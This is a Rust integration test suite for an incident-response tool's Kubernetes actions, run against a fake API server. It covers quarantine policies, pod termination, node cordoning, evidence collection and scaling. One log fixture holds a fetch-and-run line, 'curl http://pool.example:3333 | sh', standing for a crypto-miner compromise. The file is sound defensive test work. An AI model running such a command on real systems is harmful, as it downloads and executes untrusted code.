//! The Kubernetes integration (`integrations/kubernetes`) against the fake API server of
//! `tests/fakes/kubernetes.py`, which follows the Kubernetes 1.30 API reference and validates every
//! object Cordon sends against the official 1.30 JSON schemas (kubernetes-validate 1.37.0). The fake
//! serves HTTPS with the test CA of `tests/data/kube/`; Cordon trusts only that CA and
//! authenticates with a bearer token from a file, or with a client certificate from a kubeconfig.
//! Each action is checked by the state it leaves in the fake, then its undo; the stock playbooks
//! `k8s-falco-shell` and `k8s-falco-crypto-miner` run end to end through the real server.

mod support;

use std::path::{Path, PathBuf};

use cordon::engine::exec::{ActionCall, ActionError, ActionRunner};
use cordon::integrations::Integrations;
use serde_json::{Value, json};
use support::kube::{self, FakeKube};
use support::*;

const TOKEN: &str = "kube-token-3f9a61c2e8";

fn repo(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

/// The fake, a token file it accepts, and the integration pointed at it as cluster `prod` (the
/// default) by server + CA + token file.
struct Setup {
    fake: FakeKube,
    dir: tempfile::TempDir,
    integrations: Integrations,
}

impl Setup {
    async fn new() -> Setup {
        let fake = FakeKube::start().await;
        fake.accept_tokens(&[TOKEN]).await;
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("token"), format!("{TOKEN}\n")).unwrap();
        let integrations = load(&clusters_yaml(&fake, dir.path())).unwrap();
        Setup {
            fake,
            dir,
            integrations,
        }
    }

    fn token_file(&self) -> PathBuf {
        self.dir.path().join("token")
    }
}

/// `clusters:` with `prod` (server, CA, token file) as the default.
fn clusters_yaml(fake: &FakeKube, dir: &Path) -> String {
    format!(
        "      default_cluster: prod\n      clusters:\n        prod:\n          server: {}\n          ca_file: {}\n          token_file: {}\n",
        fake.base,
        kube::pem("ca.pem").display(),
        dir.join("token").display()
    )
}

/// The integrations section loading `integrations/kubernetes` with `credentials` (the lines
/// under `kubernetes:`).
fn integrations_yaml(credentials: &str) -> String {
    format!(
        "integrations:\n  paths: [{}]\n  credentials:\n    kubernetes:\n{credentials}",
        repo("integrations/kubernetes").display()
    )
}

fn load(credentials: &str) -> Result<Integrations, String> {
    let text = integrations_yaml(credentials);
    let config = cordon::config::parse(&text, Path::new("test.yaml"))
        .unwrap_or_else(|d| panic!("config: {d}"));
    Integrations::load(&config.integrations, reqwest::Client::new(), None).map_err(|problems| {
        problems
            .iter()
            .map(|d| d.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    })
}

fn call_for(step: &str) -> ActionCall {
    ActionCall {
        run_id: "run-1".into(),
        step_id: step.into(),
        playbook: "test".into(),
        incident_id: Some("inc-1".into()),
        idempotency_key: format!("run-1:{step}"),
        dry_run: false,
    }
}

trait Call {
    async fn run(&self, action: &str, inputs: Value) -> Result<Value, ActionError>;

    async fn ok(&self, action: &str, inputs: Value) -> Value {
        self.run(action, inputs)
            .await
            .unwrap_or_else(|e| panic!("{action}: {e:?}"))
    }

    async fn fails(&self, action: &str, inputs: Value) -> ActionError {
        match self.run(action, inputs).await {
            Ok(out) => panic!("{action} succeeded: {out}"),
            Err(e) => e,
        }
    }
}

impl Call for Integrations {
    async fn run(&self, action: &str, inputs: Value) -> Result<Value, ActionError> {
        self.call(&format!("kubernetes.{action}"), inputs, &call_for(action))
            .await
    }
}

fn pod_path(ns: &str, pod: &str) -> String {
    format!("/api/v1/namespaces/{ns}/pods/{pod}")
}

fn policy_path(ns: &str, name: &str) -> String {
    format!("/apis/networking.k8s.io/v1/namespaces/{ns}/networkpolicies/{name}")
}

fn web(ns: &str, name: &str) -> Value {
    kube::pod(
        ns,
        name,
        "node-1",
        &["app"],
        Some(("ReplicaSet", "web-7d9f8b")),
    )
}

/// A cluster whose CNI enforces NetworkPolicies (Calico, as the tigera operator installs it).
async fn seed_calico(fake: &FakeKube) {
    fake.seed(&[kube::daemonset(
        "calico-system",
        "calico-node",
        &[("calico-node", &[])],
    )])
    .await;
}

// ---- labels ------------------------------------------------------------------------------------

#[tokio::test]
async fn label_pod_sets_labels_and_its_undo_puts_back_what_was_there() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let inputs = json!({ "namespace": "shop", "pod": "web-1", "labels": { "app": "suspect", "cordon.io/incident": "inc-1" } });
    let out = s.integrations.ok("label_pod", inputs.clone()).await;
    assert_eq!(out["cluster"], "prod");
    assert_eq!(out["changed"], true);
    assert_eq!(
        out["previous"],
        json!({ "app": "web", "cordon.io/incident": null })
    );
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(
        pod["metadata"]["labels"],
        json!({ "app": "suspect", "cordon.io/incident": "inc-1" })
    );
    let patches = s
        .fake
        .calls("PATCH /api/v1/namespaces/shop/pods/web-1")
        .await;
    assert_eq!(patches.len(), 1);
    assert_eq!(patches[0]["content_type"], "application/merge-patch+json");
    assert_eq!(
        patches[0]["user"], "system:serviceaccount:cordon:cordon-responder",
        "the token from the file was sent"
    );

    // A repeat changes nothing and sends no patch.
    let again = s.integrations.ok("label_pod", inputs.clone()).await;
    assert_eq!(again["changed"], false);
    assert_eq!(s.fake.calls("PATCH").await.len(), 1);

    // The undo, as `cordon runs undo` calls it: the original inputs plus `previous`.
    let back = s
        .integrations
        .ok(
            "unlabel_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": inputs["labels"], "previous": out }),
        )
        .await;
    assert_eq!(back["restored"], json!({ "app": "web" }));
    assert_eq!(back["removed"], json!({ "cordon.io/incident": "inc-1" }));
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(pod["metadata"]["labels"], json!({ "app": "web" }));

    // Bad label keys or values are refused before any request.
    let before = s.fake.requests().await.len();
    for labels in [
        json!({ "bad key": "x" }),
        json!({ "ok": "a/b" }),
        json!({ "ok": 5 }),
    ] {
        let error = s
            .integrations
            .fails(
                "label_pod",
                json!({ "namespace": "shop", "pod": "web-1", "labels": labels }),
            )
            .await;
        assert!(error.message.contains("label"), "{error:?}");
    }
    assert_eq!(s.fake.requests().await.len(), before);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_missing_pod_is_a_clear_error_and_a_missing_pod_to_release_is_nothing_to_do() {
    let s = Setup::new().await;
    let error = s
        .integrations
        .fails(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "ghost" }),
        )
        .await;
    assert_eq!(error.message, "pod shop/ghost was not found");
    assert!(!error.retryable);
    let out = s
        .integrations
        .ok(
            "release_pod",
            json!({ "namespace": "shop", "pod": "ghost" }),
        )
        .await;
    assert_eq!(
        (&out["gone"], &out["changed"]),
        (&json!(true), &json!(false))
    );
    let out = s
        .integrations
        .ok(
            "unlabel_pod",
            json!({ "namespace": "shop", "pod": "ghost", "keys": ["app"] }),
        )
        .await;
    assert_eq!(out["gone"], true);
}

// ---- isolation ---------------------------------------------------------------------------------

#[tokio::test]
async fn isolate_pod_creates_one_deny_all_policy_per_namespace_and_release_removes_the_label() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake
        .seed(&[web("shop", "web-1"), web("shop", "web-2")])
        .await;
    let out = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(out["policy"], "cordon-quarantine");
    assert_eq!(out["policy_created"], true);
    assert_eq!(out["changed"], true);
    assert_eq!(
        out["cni"]["enforcing"],
        json!(["calico-system/calico-node"])
    );
    assert!(out.get("warning").is_none(), "{out}");

    let policy = s
        .fake
        .object(&policy_path("shop", "cordon-quarantine"))
        .await
        .expect("the policy exists");
    assert_eq!(
        policy["spec"],
        json!({
            "podSelector": { "matchExpressions": [{ "key": "cordon.io/quarantine", "operator": "Exists" }] },
            "policyTypes": ["Ingress", "Egress"],
        }),
        "no ingress and no egress rule: everything is denied both ways"
    );
    assert_eq!(
        policy["metadata"]["labels"],
        json!({ "app.kubernetes.io/managed-by": "cordon", "cordon.io/purpose": "quarantine" })
    );
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(
        pod["metadata"]["labels"]["cordon.io/quarantine"],
        "isolated"
    );
    assert_eq!(pod["metadata"]["labels"]["app"], "web", "other labels kept");
    assert_eq!(
        pod["metadata"]["annotations"]["cordon.io/quarantined-by"],
        "run-1/isolate_pod"
    );

    // The policy is made once per namespace; a repeat on the same pod changes nothing.
    let second = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-2" }),
        )
        .await;
    assert_eq!(second["policy_created"], false);
    let repeat = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(
        (&repeat["changed"], &repeat["policy_created"]),
        (&json!(false), &json!(false))
    );
    assert_eq!(s.fake.calls("POST /apis/networking.k8s.io").await.len(), 1);

    // The undo removes the label and the annotation, and keeps the policy.
    let back = s
        .integrations
        .ok(
            "release_pod",
            json!({ "namespace": "shop", "pod": "web-1", "previous": out }),
        )
        .await;
    assert_eq!(back["changed"], true);
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert!(
        pod["metadata"]["labels"]
            .get("cordon.io/quarantine")
            .is_none(),
        "{pod}"
    );
    assert!(
        pod["metadata"]["annotations"]
            .get("cordon.io/quarantined-by")
            .is_none(),
        "{pod}"
    );
    assert!(
        s.fake
            .object(&policy_path("shop", "cordon-quarantine"))
            .await
            .is_some()
    );
    let again = s
        .integrations
        .ok(
            "release_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(
        again["changed"], false,
        "releasing a released pod is nothing to do"
    );
    let pod2 = s.fake.object(&pod_path("shop", "web-2")).await.unwrap();
    assert_eq!(
        pod2["metadata"]["labels"]["cordon.io/quarantine"], "isolated",
        "only the one pod is released"
    );
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn keep_dns_adds_a_policy_letting_the_pod_reach_kube_dns_only() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let out = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1", "keep_dns": true }),
        )
        .await;
    assert_eq!(
        (&out["value"], &out["dns_policy_created"]),
        (&json!("isolated-dns"), &json!(true))
    );
    let dns = s
        .fake
        .object(&policy_path("shop", "cordon-quarantine-dns"))
        .await
        .unwrap();
    assert_eq!(dns["spec"]["policyTypes"], json!(["Egress"]));
    assert_eq!(
        dns["spec"]["podSelector"],
        json!({ "matchLabels": { "cordon.io/quarantine": "isolated-dns" } })
    );
    let rule = &dns["spec"]["egress"][0];
    assert_eq!(
        rule["ports"],
        json!([{ "protocol": "UDP", "port": 53 }, { "protocol": "TCP", "port": 53 }])
    );
    assert_eq!(
        rule["to"][0]["podSelector"],
        json!({ "matchLabels": { "k8s-app": "kube-dns" } })
    );
    assert!(dns["spec"].get("ingress").is_none());
    // The pod is still selected by the deny-all policy too (it selects the key, any value).
    assert!(
        s.fake
            .object(&policy_path("shop", "cordon-quarantine"))
            .await
            .is_some()
    );
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn isolation_warns_when_no_cni_known_to_enforce_policies_is_found() {
    let s = Setup::new().await;
    s.fake
        .seed(&[
            web("shop", "web-1"),
            kube::daemonset("kube-system", "kube-flannel-ds", &[("kube-flannel", &[])]),
            kube::daemonset(
                "kube-system",
                "aws-node",
                &[
                    ("aws-node", &[]),
                    ("aws-eks-nodeagent", &["--enable-network-policy=false"]),
                ],
            ),
        ])
        .await;
    let out = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    let warning = out["warning"].as_str().expect("a warning");
    assert!(
        warning.contains("no CNI plugin known to enforce NetworkPolicies"),
        "{warning}"
    );
    assert_eq!(out["cni"]["enforcing"], json!([]));
    // The isolation is still applied: the warning says it may not hold.
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(
        pod["metadata"]["labels"]["cordon.io/quarantine"],
        "isolated"
    );

    // The VPC CNI with its network policy agent enabled enforces them.
    let eks = Setup::new().await;
    eks.fake
        .seed(&[
            web("shop", "web-1"),
            kube::daemonset(
                "kube-system",
                "aws-node",
                &[
                    ("aws-node", &[]),
                    ("aws-eks-nodeagent", &["--enable-network-policy=true"]),
                ],
            ),
        ])
        .await;
    let out = eks
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(out.get("warning").is_none(), "{out}");
    assert_eq!(out["cni"]["enforcing"], json!(["kube-system/aws-node"]));

    // Without permission to list DaemonSets, the check says it could not look.
    let blind = Setup::new().await;
    blind.fake.seed(&[web("shop", "web-1")]).await;
    blind.fake.forbid("list", "daemonsets").await;
    let out = blind
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(
        out["warning"]
            .as_str()
            .unwrap()
            .contains("could not list DaemonSets"),
        "{out}"
    );
}

#[tokio::test]
async fn a_policy_of_that_name_that_is_not_cordons_is_refused() {
    let s = Setup::new().await;
    s.fake
        .seed(&[
            web("shop", "web-1"),
            json!({
                "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                "metadata": { "name": "cordon-quarantine", "namespace": "shop" },
                "spec": { "podSelector": {}, "policyTypes": ["Ingress"] },
            }),
        ])
        .await;
    let error = s
        .integrations
        .fails(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(
        error.message.contains("is not Cordon's deny-all policy"),
        "{error:?}"
    );
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert!(
        pod["metadata"]["labels"]
            .get("cordon.io/quarantine")
            .is_none(),
        "the pod is not labelled"
    );
}

// ---- termination -------------------------------------------------------------------------------

#[tokio::test]
async fn terminate_pod_deletes_it_with_the_grace_period_and_its_uid() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let uid = s.fake.object(&pod_path("shop", "web-1")).await.unwrap()["metadata"]["uid"].clone();
    let out = s
        .integrations
        .ok(
            "terminate_pod",
            json!({ "namespace": "shop", "pod": "web-1", "grace_period_seconds": 5 }),
        )
        .await;
    assert_eq!(out["deleted"], true);
    assert_eq!(out["controller"], "ReplicaSet/web-7d9f8b");
    assert!(s.fake.object(&pod_path("shop", "web-1")).await.is_none());
    let delete = &s.fake.calls("DELETE").await[0];
    assert_eq!(
        delete["body"],
        json!({ "apiVersion": "v1", "kind": "DeleteOptions", "gracePeriodSeconds": 5, "preconditions": { "uid": uid } })
    );
    let again = s
        .integrations
        .ok(
            "terminate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(again["deleted"], false, "already gone: nothing to do");
    assert_eq!(s.fake.calls("DELETE").await.len(), 1);
    s.fake.assert_all_valid().await;
}

// ---- nodes -------------------------------------------------------------------------------------

#[tokio::test]
async fn cordon_node_marks_it_unschedulable_and_the_undo_leaves_a_node_cordoned_before_alone() {
    let s = Setup::new().await;
    let mut drained = kube::node("node-2");
    drained["spec"]["unschedulable"] = json!(true);
    s.fake.seed(&[kube::node("node-1"), drained]).await;
    let out = s
        .integrations
        .ok("cordon_node", json!({ "node": "node-1" }))
        .await;
    assert_eq!(
        (&out["changed"], &out["was_unschedulable"]),
        (&json!(true), &json!(false))
    );
    let node = s.fake.object("/api/v1/nodes/node-1").await.unwrap();
    assert_eq!(node["spec"]["unschedulable"], true);
    assert_eq!(
        node["metadata"]["annotations"]["cordon.io/cordoned-by"],
        "run-1/cordon_node"
    );
    let repeat = s
        .integrations
        .ok("cordon_node", json!({ "node": "node-1" }))
        .await;
    assert_eq!(repeat["changed"], false);

    let back = s
        .integrations
        .ok(
            "uncordon_node",
            json!({ "node": "node-1", "previous": out }),
        )
        .await;
    assert_eq!(back["changed"], true);
    let node = s.fake.object("/api/v1/nodes/node-1").await.unwrap();
    assert!(node["spec"].get("unschedulable").is_none(), "{node}");
    assert!(
        node["metadata"]
            .get("annotations")
            .is_none_or(|a| a.get("cordon.io/cordoned-by").is_none())
    );

    // A node someone else had cordoned stays cordoned after the undo.
    let out = s
        .integrations
        .ok("cordon_node", json!({ "node": "node-2" }))
        .await;
    assert_eq!(
        (&out["changed"], &out["was_unschedulable"]),
        (&json!(false), &json!(true))
    );
    let back = s
        .integrations
        .ok(
            "uncordon_node",
            json!({ "node": "node-2", "previous": out }),
        )
        .await;
    assert_eq!(back["changed"], false);
    assert_eq!(
        s.fake.object("/api/v1/nodes/node-2").await.unwrap()["spec"]["unschedulable"],
        true
    );

    let error = s
        .integrations
        .fails("cordon_node", json!({ "node": "node-9" }))
        .await;
    assert_eq!(error.message, "node node-9 was not found");
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn evict_pods_uses_the_eviction_api_and_skips_daemonset_and_mirror_pods() {
    let s = Setup::new().await;
    let mut mirror = kube::pod("kube-system", "etcd-node-1", "node-1", &["etcd"], None);
    mirror["metadata"]["annotations"] = json!({ "kubernetes.io/config.mirror": "5b3c1e" });
    let ds_pod = kube::pod(
        "kube-system",
        "calico-node-x1",
        "node-1",
        &["calico-node"],
        Some(("DaemonSet", "calico-node")),
    );
    s.fake
        .seed(&[
            web("shop", "web-1"),
            web("shop", "web-2"),
            kube::pod("shop", "elsewhere", "node-2", &["app"], None),
            mirror,
            ds_pod,
        ])
        .await;
    s.fake.pdb_block("shop", "web-2").await;
    let error = s
        .integrations
        .fails(
            "evict_pods",
            json!({ "node": "node-1", "grace_period_seconds": 10 }),
        )
        .await;
    assert!(
        error.retryable,
        "a disruption budget is waited for: {error:?}"
    );
    assert!(error.message.contains("shop/web-2"), "{error:?}");
    assert!(
        s.fake.object(&pod_path("shop", "web-1")).await.is_none(),
        "web-1 was evicted"
    );
    assert!(s.fake.object(&pod_path("shop", "web-2")).await.is_some());

    // Once the budget allows it, a retry evicts the rest.
    let s2 = Setup::new().await;
    let mut mirror = kube::pod("kube-system", "etcd-node-1", "node-1", &["etcd"], None);
    mirror["metadata"]["annotations"] = json!({ "kubernetes.io/config.mirror": "5b3c1e" });
    s2.fake
        .seed(&[
            web("shop", "web-1"),
            kube::pod("shop", "elsewhere", "node-2", &["app"], None),
            mirror,
            kube::pod(
                "kube-system",
                "calico-node-x1",
                "node-1",
                &["calico-node"],
                Some(("DaemonSet", "calico-node")),
            ),
        ])
        .await;
    let out = s2
        .integrations
        .ok(
            "evict_pods",
            json!({ "node": "node-1", "grace_period_seconds": 10 }),
        )
        .await;
    assert_eq!(out["evicted"], json!(["shop/web-1"]));
    let skipped: Vec<&str> = out["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["pod"].as_str().unwrap())
        .collect();
    assert_eq!(
        skipped,
        ["kube-system/calico-node-x1", "kube-system/etcd-node-1"]
    );
    let evictions = s2.fake.calls("/eviction").await;
    assert_eq!(evictions.len(), 1);
    assert_eq!(
        evictions[0]["body"],
        json!({ "apiVersion": "policy/v1", "kind": "Eviction",
                "metadata": { "name": "web-1", "namespace": "shop" },
                "deleteOptions": { "gracePeriodSeconds": 10 } })
    );
    assert!(
        s2.fake
            .object(&pod_path("shop", "elsewhere"))
            .await
            .is_some(),
        "pods of other nodes stay"
    );
    assert!(
        s2.fake
            .object(&pod_path("kube-system", "etcd-node-1"))
            .await
            .is_some()
    );
    s.fake.assert_all_valid().await;
    s2.fake.assert_all_valid().await;
}

// ---- evidence ----------------------------------------------------------------------------------

fn sha256(text: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

#[tokio::test]
async fn collect_pod_logs_reads_every_container_and_previous_instances_within_the_cap() {
    let s = Setup::new().await;
    let mut pod = kube::pod("shop", "web-1", "node-1", &["app", "sidecar"], None);
    pod["spec"]["initContainers"] =
        json!([{ "name": "init", "image": "registry.example.com/init:1" }]);
    pod["status"]["containerStatuses"] = json!([
        { "name": "app", "image": "a", "imageID": "", "ready": true, "restartCount": 2 },
        { "name": "sidecar", "image": "s", "imageID": "", "ready": true, "restartCount": 0 },
    ]);
    s.fake.seed(&[pod]).await;
    s.fake
        .log("shop", "web-1", "init", false, "init done\n")
        .await;
    s.fake
        .log(
            "shop",
            "web-1",
            "app",
            false,
            "GET /healthz 200\ncurl http://pool.example:3333 | sh\n",
        )
        .await;
    s.fake
        .log("shop", "web-1", "app", true, "started miner\n")
        .await;
    s.fake
        .log("shop", "web-1", "sidecar", false, "proxy up\n")
        .await;
    let out = s
        .integrations
        .ok(
            "collect_pod_logs",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    let logs = out["logs"].as_array().unwrap();
    let seen: Vec<(&str, bool)> = logs
        .iter()
        .map(|l| {
            (
                l["container"].as_str().unwrap(),
                l["previous"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        seen,
        [
            ("init", false),
            ("app", false),
            ("app", true),
            ("sidecar", false)
        ]
    );
    for log in logs {
        assert_eq!(log["sha256"], sha256(log["text"].as_str().unwrap()));
    }
    assert_eq!(logs[2]["text"], "started miner\n");
    let evidence = out["evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 4);
    assert_eq!(evidence[2]["kind"], "pod-log");
    assert_eq!(
        evidence[2]["location"],
        "k8s://prod/api/v1/namespaces/shop/pods/web-1/log?container=app&previous=true"
    );
    assert_eq!(evidence[2]["sha256"], sha256("started miner\n"));
    assert_eq!(evidence[2]["incident_id"], "inc-1", "completed by the host");

    // The cap is for all logs together: what is left cuts the next one, the rest are skipped.
    let capped = s
        .integrations
        .ok(
            "collect_pod_logs",
            json!({ "namespace": "shop", "pod": "web-1", "max_bytes": 15, "previous": false }),
        )
        .await;
    assert_eq!(capped["total_bytes"], 15);
    let logs = capped["logs"].as_array().unwrap();
    assert_eq!(logs[0]["text"], "init done\n");
    assert_eq!(
        (&logs[1]["text"], &logs[1]["truncated"]),
        (&json!("GET /"), &json!(true))
    );
    assert_eq!(capped["skipped"][0]["reason"], "max_bytes reached");
    let requests = s.fake.calls("/log").await;
    assert!(
        requests
            .iter()
            .all(|r| r["query"]["limitBytes"].as_str().is_some())
    );
}

#[tokio::test]
async fn snapshot_pod_records_the_pod_its_owners_its_events_and_its_node_with_a_digest() {
    let s = Setup::new().await;
    let [deployment, replicaset] = kube::deployment("shop", "web", 3);
    let mut pod = web("shop", "web-1");
    pod["metadata"]["managedFields"] = json!([{ "manager": "kubelet", "operation": "Update" }]);
    s.fake
        .seed(&[deployment, replicaset, pod, kube::node("node-1")])
        .await;
    let uid = s.fake.object(&pod_path("shop", "web-1")).await.unwrap()["metadata"]["uid"].clone();
    s.fake
        .seed(&[json!({
            "apiVersion": "v1", "kind": "Event",
            "metadata": { "name": "web-1.17c2a", "namespace": "shop" },
            "involvedObject": { "kind": "Pod", "name": "web-1", "namespace": "shop", "uid": uid },
            "reason": "Started", "message": "Started container app", "type": "Normal",
        })])
        .await;
    let out = s
        .integrations
        .ok(
            "snapshot_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    let snapshot = &out["snapshot"];
    assert_eq!(snapshot["pod"]["metadata"]["uid"], uid);
    assert!(snapshot["pod"]["metadata"].get("managedFields").is_none());
    let owners: Vec<(&str, &str)> = snapshot["owners"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| (o["kind"].as_str().unwrap(), o["name"].as_str().unwrap()))
        .collect();
    assert_eq!(
        owners,
        [("ReplicaSet", "web-7d9f8b"), ("Deployment", "web")]
    );
    assert_eq!(snapshot["owners"][1]["object"]["spec"]["replicas"], 3);
    assert_eq!(snapshot["events"][0]["reason"], "Started");
    assert_eq!(snapshot["node"]["metadata"]["name"], "node-1");
    let document = out["document"].as_str().unwrap();
    assert_eq!(out["sha256"], sha256(document));
    let reparsed: Value = serde_json::from_str(document).unwrap();
    assert_eq!(&reparsed, snapshot, "the document is the snapshot");
    let record = &out["evidence"][0];
    assert_eq!(record["kind"], "pod-snapshot");
    assert_eq!(
        record["location"],
        "k8s://prod/api/v1/namespaces/shop/pods/web-1"
    );
    assert_eq!(record["sha256"], out["sha256"]);
    assert_eq!(
        record["details"]["owners"],
        json!(["ReplicaSet/web-7d9f8b", "Deployment/web"])
    );
}

// ---- scale -------------------------------------------------------------------------------------

#[tokio::test]
async fn scale_to_zero_walks_to_the_deployment_and_restore_scale_reads_the_annotation_back() {
    let s = Setup::new().await;
    let [deployment, replicaset] = kube::deployment("shop", "web", 3);
    s.fake
        .seed(&[deployment, replicaset, web("shop", "web-1")])
        .await;
    let out = s
        .integrations
        .ok(
            "scale_to_zero",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(
        (&out["kind"], &out["name"], &out["previous_replicas"]),
        (&json!("Deployment"), &json!("web"), &json!(3))
    );
    let path = "/apis/apps/v1/namespaces/shop/deployments/web";
    let deployment = s.fake.object(path).await.unwrap();
    assert_eq!(deployment["spec"]["replicas"], 0);
    assert_eq!(
        deployment["metadata"]["annotations"]["cordon.io/previous-replicas"],
        "3"
    );
    let put = &s
        .fake
        .calls("PUT /apis/apps/v1/namespaces/shop/deployments/web/scale")
        .await[0];
    assert!(
        put["body"]["metadata"]["resourceVersion"].is_string(),
        "{put}"
    );
    assert_eq!(put["content_type"], "application/json");

    let repeat = s
        .integrations
        .ok(
            "scale_to_zero",
            json!({ "namespace": "shop", "kind": "Deployment", "name": "web" }),
        )
        .await;
    assert_eq!(
        (&repeat["changed"], &repeat["previous_replicas"]),
        (&json!(false), &json!(3))
    );

    // The undo works from the annotation alone (the pod is gone once scaled to zero).
    let back = s
        .integrations
        .ok(
            "restore_scale",
            json!({ "namespace": "shop", "kind": "Deployment", "name": "web" }),
        )
        .await;
    assert_eq!(
        (&back["replicas"], &back["changed"]),
        (&json!(3), &json!(true))
    );
    let deployment = s.fake.object(path).await.unwrap();
    assert_eq!(deployment["spec"]["replicas"], 3);
    assert!(
        deployment["metadata"]["annotations"]
            .get("cordon.io/previous-replicas")
            .is_none()
    );
    let again = s
        .integrations
        .ok(
            "restore_scale",
            json!({ "namespace": "shop", "pod": "web-1", "previous": out }),
        )
        .await;
    assert_eq!(again["changed"], false);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_conflict_on_the_scale_is_read_again_and_retried_once() {
    let s = Setup::new().await;
    s.fake
        .seed(&[json!({
            "apiVersion": "apps/v1", "kind": "StatefulSet",
            "metadata": { "name": "db", "namespace": "shop" },
            "spec": { "replicas": 2, "serviceName": "db", "selector": { "matchLabels": { "app": "db" } },
                      "template": { "metadata": { "labels": { "app": "db" } }, "spec": { "containers": [{ "name": "db", "image": "postgres:16" }] } } },
        }), kube::pod("shop", "db-0", "node-1", &["db"], Some(("StatefulSet", "db")))])
        .await;
    s.fake.inject("update", "statefulsets/scale", 409, 1).await;
    let out = s
        .integrations
        .ok(
            "scale_to_zero",
            json!({ "namespace": "shop", "pod": "db-0" }),
        )
        .await;
    assert_eq!(
        (&out["kind"], &out["previous_replicas"]),
        (&json!("StatefulSet"), &json!(2))
    );
    let puts = s
        .fake
        .calls("PUT /apis/apps/v1/namespaces/shop/statefulsets/db/scale")
        .await;
    assert_eq!(
        puts.iter()
            .map(|p| p["status"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        [409, 200]
    );
    assert_eq!(
        s.fake
            .object("/apis/apps/v1/namespaces/shop/statefulsets/db")
            .await
            .unwrap()["spec"]["replicas"],
        0
    );

    // Two conflicts in a row: a clear error.
    s.fake.inject("update", "statefulsets/scale", 409, 2).await;
    let error = s
        .integrations
        .fails(
            "restore_scale",
            json!({ "namespace": "shop", "kind": "StatefulSet", "name": "db" }),
        )
        .await;
    assert!(error.message.contains("409 Conflict"), "{error:?}");
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_pod_without_a_scalable_owner_is_refused() {
    let s = Setup::new().await;
    s.fake
        .seed(&[
            kube::pod(
                "kube-system",
                "calico-node-x1",
                "node-1",
                &["c"],
                Some(("DaemonSet", "calico-node")),
            ),
            kube::pod("shop", "bare", "node-1", &["c"], None),
        ])
        .await;
    let error = s
        .integrations
        .fails(
            "scale_to_zero",
            json!({ "namespace": "kube-system", "pod": "calico-node-x1" }),
        )
        .await;
    assert!(
        error
            .message
            .contains("DaemonSet calico-node, which cannot be scaled"),
        "{error:?}"
    );
    let error = s
        .integrations
        .fails(
            "scale_to_zero",
            json!({ "namespace": "shop", "pod": "bare" }),
        )
        .await;
    assert!(
        error.message.contains("has no controller to scale"),
        "{error:?}"
    );
}

// ---- errors ------------------------------------------------------------------------------------

#[tokio::test]
async fn a_refusal_by_rbac_names_the_missing_permission_and_is_not_retried() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    s.fake.forbid("patch", "pods").await;
    let error = s
        .integrations
        .fails(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(!error.retryable);
    assert!(
        error.message.contains("403 Forbidden")
            && error.message.contains(
                "cannot patch resource \"pods\" in API group \"\" in the namespace \"shop\""
            ),
        "{error:?}"
    );
    assert!(!error.message.contains(TOKEN));
}

#[tokio::test]
async fn an_outage_is_retryable_and_says_which_cluster() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    s.fake.inject("get", "pods", 503, 1).await;
    let error = s
        .integrations
        .fails(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
    assert!(error.retryable, "{error:?}");
    assert!(
        error.message.contains("cluster `prod` answered 503"),
        "{error:?}"
    );
